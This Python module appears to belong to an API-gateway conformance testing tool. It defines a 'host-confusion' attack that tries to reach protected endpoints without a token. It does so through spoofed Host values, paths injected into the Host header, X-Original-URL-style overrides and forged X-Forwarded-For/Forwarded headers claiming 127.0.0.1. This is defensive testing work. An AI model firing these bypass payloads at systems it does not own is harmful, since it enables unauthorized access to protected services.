"""Ask under another host or another URL than those that the gate looks at."""

from dataclasses import replace

from watchword.drill.around import armed, if_it_matters
from watchword.drill.interface import Attack, AttackContext, Attempt, Attempts, Variant
from watchword.drill.requests import credential_of, proved
from watchword.drill.wire import Part
from watchword.reasons import Reason
from watchword.vocabulary import Proof

# Names that are nobody's (RFC 6761 section 6): behind a shared front another's would reach others, who didn't consent.
_HOSTS = ("localhost", "127.0.0.1", "internal.example")
_URL_NAMES = ("X-Original-URL", "X-Rewrite-URL", "X-Forwarded-URI", "X-Forwarded-Path")


def _another(context: AttackContext) -> Attempts:
    """Name a host that only insiders use, and bring no token."""
    return [
        Attempt(sample, context.wire.send(sample.call().with_header("Host", host)))
        for sample in armed(context)
        for host in _HOSTS
    ]


def _poisoned(context: AttackContext) -> Attempts:
    """Put a path into the host, for frameworks that glue a URL together and route by it (CVE-2026-48710)."""
    sample = context.sample(Proof.BEARER, Proof.DEVICE, Proof.SESSION)
    authority = context.wire.authority(Part.GATE)
    open_path = (context.facts.off or ("/health",))[0]
    attempts = []
    for host in (
        f"{authority}{open_path}?",
        f"{authority}{open_path}#",
        f"user@{authority}",
        f"{authority}, other.example",
    ):
        credential = credential_of(context.genuine(), context.facts.audience)
        call = proved(context, sample.call().with_header("Host", host), credential, sample.proof)
        attempts.append(Attempt(sample, context.wire.send(call)))
    return attempts


def _url_header(context: AttackContext) -> Attempts:
    """Name another URL in a header: the gate may believe it, or the API alone."""
    attempts = []
    for sample in armed(context):
        call = sample.call()
        for name in _URL_NAMES:
            for off in context.facts.off[:1] or ("/health",):
                told = call.with_header(name, off)
                attempts.append(Attempt(sample, context.wire.send(told)))
            for off in context.facts.off[:1]:
                plain = replace(call, target=off)
                asked = plain.with_header(name, sample.target)
                attempts += if_it_matters(context, sample, plain, asked)
    return attempts


def _forwarded(context: AttackContext) -> Attempts:
    """Claim to come from inside, over a proxy that had a look already."""
    attempts = []
    for sample in armed(context):
        call = sample.call()
        for name in ("X-Forwarded-For", "X-Real-IP", "X-Client-IP", "True-Client-IP"):
            call = call.with_header(name, "127.0.0.1")
        call = call.with_header("Forwarded", "for=127.0.0.1;host=internal.example;proto=https")
        call = call.with_header("X-Forwarded-Host", "internal.example")
        call = call.with_header("X-Forwarded-Proto", "https").with_header("Via", "1.1 watchword")
        attempts.append(Attempt(sample, context.wire.send(call)))
    return attempts


_MISSING = frozenset({Reason.TOKEN_MISSING})

ATTACK = Attack(
    id="host-confusion",
    title="Ask under another host or URL than the gate looks at",
    techniques=("MT-B01", "MT-B03"),
    protections={"PR-B01": "live:shield.rejected_unattested"},
    needs=(),
    sends="Samples without a token under other hosts, or with headers that name another URL or an inner address. Then "
    "genuine ones with an invalid host.",
    must="Whatever the headers say, the rule of the path in the request line applies, and an invalid host is refused.",
    blind="It names nobody else's host, because it could reach them. The conformance corpus tests two Host fields in "
    "one request. An override that changes nothing in the answer isn't seen.",
    variants=(
        Variant("another-host", _another, _MISSING),
        Variant("host-with-a-path", _poisoned, frozenset({Reason.REQUEST_HOST})),
        Variant("url-in-a-header", _url_header, _MISSING),
        Variant("from-inside", _forwarded, _MISSING),
    ),
)
